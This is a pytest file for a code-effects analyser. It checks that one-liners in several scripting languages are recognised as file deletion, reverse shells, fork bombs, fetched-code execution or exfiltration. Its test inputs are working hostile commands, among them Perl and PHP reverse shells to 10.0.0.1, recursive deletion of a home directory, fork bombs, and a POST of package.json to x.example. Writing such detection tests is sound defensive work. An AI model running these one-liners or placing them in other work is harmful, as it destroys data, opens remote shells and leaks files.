"""Scripting languages by their tokens: what one-liners do, under whatever name their functions go."""

from __future__ import annotations

import pytest

from bailiwick.interpret.code import effects_of_code
from bailiwick.interpret.effects import Effects, RunCode, RunShell, RunWords, literal
from bailiwick.interpret.inquiry import Inquiry
from bailiwick.model.operation import Kind, Operation, ResourceClass
from bailiwick.model.request import Place

PLACE = Place(project="/home/dev/proj", home="/home/dev")


def effects(language: str, code: str) -> Effects:
    launch = RunCode(language, literal(code), via="test")
    return effects_of_code(launch, cwd=PLACE.project, place=PLACE, inquiry=Inquiry({}))


def of_kind(language: str, code: str, kind: Kind) -> list[Operation]:
    return [operation for operation in effects(language, code).operations if operation.kind is kind]


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("perl", 'unlink glob "/home/dev/*"'),
        ("perl", 'use File::Find; find(sub{unlink $_}, "/home/dev")'),
        ("ruby", 'Dir.glob("/home/dev/**/*").each{|f| File.delete(f) rescue nil}'),
        ("php", 'array_map("unlink", glob("/home/dev/*"));'),
        ("javascript", 'process.chdir("/");require("fs").rmdirSync("home",{recursive:true})'),
        ("javascript", 'const {rmSync: gone} = require("fs"); gone("/home/dev", {recursive: true})'),
        ("javascript", 'import {rmSync as gone} from "fs"; gone("/home/dev")'),
        ("javascript", 'const gone = require("fs").rmSync; gone("/home/dev")'),
    ],
)
def test_deleting_what_is_found_is_deleting_below_the_place(language: str, code: str) -> None:
    deleted = of_kind(language, code, Kind.FILE_DELETE)
    assert any(operation.has(ResourceClass.OUTSIDE, ResourceClass.HOME_ROOT) for operation in deleted)


@pytest.mark.parametrize(
    ("language", "code"),
    [
        (
            "perl",
            'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(44,inet_aton("10.0.0.1")));exec("/bin/sh -i");',
        ),
        ("php", '$s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'),
        ("javascript", 'const n=require("net"),c=require("child_process");c.spawn("/bin/sh",[]).stdin'),
    ],
)
def test_a_shell_on_a_socket_is_a_reverse_shell(language: str, code: str) -> None:
    if language == "javascript":
        code = code.replace("const n", "const net")
    assert any(operation.attributes.get("reverse_shell") for operation in of_kind(language, code, Kind.EXEC_RUN))


@pytest.mark.parametrize(
    ("language", "code"),
    [("perl", "fork while 1"), ("ruby", "loop { fork }"), ("php", "while(1) { pcntl_fork(); }")],
)
def test_forking_without_end_is_a_fork_bomb(language: str, code: str) -> None:
    assert any(operation.attributes.get("fork_bomb") for operation in of_kind(language, code, Kind.EXEC_RUN))


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("php", 'include "https://x.example/x.php";'),
        ("javascript", 'await import("https://x.example/a.ts")'),
    ],
)
def test_including_an_address_is_running_fetched_code(language: str, code: str) -> None:
    assert any(operation.attributes.get("fetched") for operation in of_kind(language, code, Kind.EXEC_RUN))


def test_an_evaluator_that_is_handed_on_is_suspicious() -> None:
    code = 'fetch("https://x.example").then(r => r.text()).then(eval)'
    runs = of_kind("javascript", code, Kind.EXEC_RUN)
    assert any(operation.attributes.get("suspicious") for operation in runs)


def test_a_file_in_a_request_is_sent() -> None:
    code = 'fetch("https://x.example",{method:"POST",body:require("fs").readFileSync("package.json")})'
    (sent,) = of_kind("javascript", code, Kind.NET_SEND)
    assert sent.attributes["carries"] == "file"


def test_a_shell_template_runs_in_a_shell() -> None:
    launches = effects("javascript", 'import {$} from "bun"; await $`rm -rf /home/dev`').launches
    assert [launch.text.known for launch in launches if isinstance(launch, RunShell)] == ["rm -rf /home/dev"]


def test_another_name_of_a_starter_still_starts() -> None:
    code = "const{execSync:x}=require('child_process');x('rm -rf '+'/home/dev')"
    launches = effects("javascript", code).launches
    assert any(isinstance(launch, RunShell) and launch.text.known == "rm -rf /home/dev" for launch in launches)


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("javascript", "console.log('unlink /home/dev'); // rmSync('/')"),
        ("javascript", "const net = require('net'); net.connect(3000, 'localhost')"),
        ("javascript", "const x = {exec: run, rm: drop}; x.go('/home/dev')"),
        ("ruby", 'puts "system exec /bin/sh"'),
        ("perl", 'print "fork while 1"'),
        ("php", 'echo "array_map unlink /home/dev";'),
    ],
)
def test_what_is_only_mentioned_does_nothing(language: str, code: str) -> None:
    done = effects(language, code)
    assert not done.launches or all(not isinstance(launch, RunShell | RunWords) for launch in done.launches)
    assert all(operation.kind not in (Kind.FILE_DELETE, Kind.EXEC_RUN) for operation in done.operations)


@pytest.mark.parametrize(
    "code",
    [
        "import glob,os;[os.unlink(p) for p in glob.glob('/home/dev/*')]",
        "import os\nfor d, _, fs in os.walk('/home/dev'):\n    for f in fs:\n        os.remove(os.path.join(d, f))",
        "import os; [os.remove(os.path.join(d,f)) for d,_,fs in os.walk('/home/dev') for f in fs]",
        "from os import *; unlink('/home/dev/notes.txt')",
    ],
)
def test_python_deletes_what_it_walks(code: str) -> None:
    deleted = of_kind("python", code, Kind.FILE_DELETE)
    assert any(operation.has(ResourceClass.OUTSIDE) for operation in deleted)


@pytest.mark.parametrize(
    "code",
    [
        "const re = /use[A-Z]\\w+/g; let m; while ((m = re.exec(text)) !== null) console.log(m[0])",
        "console.log(/v(\\d+)/.exec('v20')[1])",
        "const words = new RegExp('a(b)'); words.exec('rm -rf /')",
        "text.replace(/['\"`]/g, '').split(/\\s+/)",
    ],
)
def test_a_regular_expression_searches_and_runs_nothing(code: str) -> None:
    assert effects("javascript", code).launches == ()


@pytest.mark.parametrize(
    "code",
    [
        "x++ /require('child_process').execSync('id')/ 1",
        "(1) / require('child_process').execSync('id') / 1",
        "''.replace(/'/g, ''); require('child_process').execSync('id')",
        "let re = /a/; re = require('child_' + 'process'); re.exec('id')",
        "const re = /a/; require('child_process').exec('id')",
    ],
)
def test_what_only_looks_like_a_regular_expression_hides_no_command(code: str) -> None:
    assert any(
        isinstance(launch, RunShell) and launch.text.known == "id" for launch in effects("javascript", code).launches
    )


@pytest.mark.parametrize(
    ("language", "code", "words"),
    [
        ("javascript", "require('child_process').spawn('sh', ['-c', 'ls -la /'])", ("sh", "-c", "ls -la /")),
        ("javascript", "const a = ['-c', 'ls -la /']; cp.spawn('/bin/bash', a)", ("/bin/bash", "-c", "ls -la /")),
        ("ruby", "system('sh', '-c', 'ls -la /')", ("sh", "-c", "ls -la /")),
        ("javascript", "cp.spawnSync('git', ['diff', '--stat'])", ("git", "diff", "--stat")),
    ],
)
def test_code_in_an_array_of_words_is_one_word(language: str, code: str, words: tuple[str, ...]) -> None:
    (launch,) = effects(language, code).launches
    assert isinstance(launch, RunWords)
    assert tuple(word.known for word in launch.words) == words
